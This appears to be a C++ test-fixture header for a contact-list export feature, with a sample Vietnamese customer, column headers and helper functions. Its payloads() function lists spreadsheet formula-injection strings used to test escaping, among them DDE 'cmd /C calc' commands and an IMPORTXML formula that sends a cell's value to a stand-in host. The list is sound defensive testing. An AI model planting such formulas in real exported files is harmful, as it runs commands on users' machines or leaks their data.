#pragma once

#include "core/exporting/contact_list.h"
#include "support/test_shop.h"

#include <QString>
#include <QStringList>

#include <memory>

namespace kq::test {

// People, options and headers of which lists are made in these tests.

using namespace Qt::StringLiterals;

inline Contact lan()
{
    Contact contact;
    contact.id = {1};
    contact.name = u"Nguyễn Thị Lan"_s;
    contact.phone = u"+84912345678"_s;
    contact.phones = {{u"+84912345678"_s, PhoneKind::Mobile},
                      {u"+842438251234"_s, PhoneKind::Fixed}};
    contact.emails = {u"lan@thu.vn"_s, u"hai@thu.vn"_s};
    contact.street = u"12 Lê Lợi, Quận 1, 700000"_s;
    contact.area = u"Hà Nội"_s;
    contact.code = u"KH01"_s;
    contact.tags = {u"VIP"_s, u"sỉ, lẻ"_s};
    contact.gender = Gender::Female;
    contact.birthday = Birthday{1990, 5, 31};
    contact.purchases = 3;
    contact.spend = {1'250'000};
    contact.lastPurchase = {2025, 2, 9};
    return contact;
}

inline Contact named(const QString &name)
{
    Contact contact = lan();
    contact.name = name;
    return contact;
}

inline const ListHeaders headers{u"Khách"_s,     u"Tên"_s,     u"SĐT"_s,       u"Email"_s,
                                 u"Khu vực"_s,   u"Nhãn"_s,    u"Lần"_s,       u"Tiền"_s,
                                 u"Gần"_s,       u"Nói gì"_s,  u"Đã gọi"_s,    u"Không nghe"_s,
                                 u"Hẹn lại"_s,   u"Ghi chú"_s, u"Từ chối"_s,   u"Mã"_s,
                                 u"Sinh nhật"_s, u"Địa chỉ"_s, u"Mã ưu đãi"_s, u"Phiếu gọi"_s};

inline std::unique_ptr<ListTarget> target(const ListOptions &options)
{
    return makeTarget(options, headers, Formatter(Language::Vietnamese, u"VND"_s));
}

/// The cell of @p contact under @p header.
inline QString cell(const ListTarget &list, const Contact &contact, const QString &header)
{
    const qsizetype column = list.headers().indexOf(header);
    return column < 0 ? u"no such column"_s : list.row(contact).at(column);
}

inline ListOptions options(ListFormat format, Hashing hashing = Hashing::Plain)
{
    ListOptions result;
    result.format = format;
    result.hashing = hashing;
    return result;
}

/// Signs by which spreadsheet programs take a cell for a formula: OWASP's list and full-width ones.
inline QStringList payloads()
{
    return {u"=1+1"_s,
            u"+84"_s,
            u"-2+3+cmd|' /C calc'!A0"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            QString(QChar(0)) + u"=1+1"_s,
            u"\n=HYPERLINK(\"http://x\",\"y\")"_s,
            u"＝1+1"_s,
            u"＋1"_s,
            u"－1"_s,
            u"＠SUM(1)"_s,
            u"=cmd|'/C calc'!A0"_s,
            u"=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"_s};
}

/// A shop of @p count people, each with a number of their own.
inline TestShop shopOf(int count)
{
    TestShop shop;
    for (int i = 1; i <= count; ++i) {
        Customer customer;
        customer.id = {i};
        customer.name = u"Trần Văn %1"_s.arg(i);
        customer.phones = {{u"+8491%1"_s.arg(i, 7, 10, QLatin1Char('0')), PhoneKind::Mobile}};
        customer.emails = {u"k%1@thu.vn"_s.arg(i)};
        shop.customers.push_back(customer);
    }
    return shop;
}

} // namespace kq::test
